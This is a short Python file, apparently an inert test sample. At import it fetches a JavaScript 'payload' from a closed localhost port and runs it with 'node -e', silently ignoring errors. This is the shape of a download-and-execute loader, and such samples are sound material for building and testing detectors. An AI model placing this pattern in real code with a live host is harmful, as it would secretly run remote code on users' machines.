"""Inert sample: the address is a closed port of this machine, so nothing is ever fetched."""
import subprocess
import urllib.request

CONFIG = "http://127.0.0.1:9/payloads/light.js"
NEVER_USED = "https://example.github.io/config.json"


def _check():
    try:
        code = urllib.request.urlopen(CONFIG, timeout=1).read().decode()
        subprocess.run(["node", "-e", code], check=False)
    except OSError:
        pass


_check()
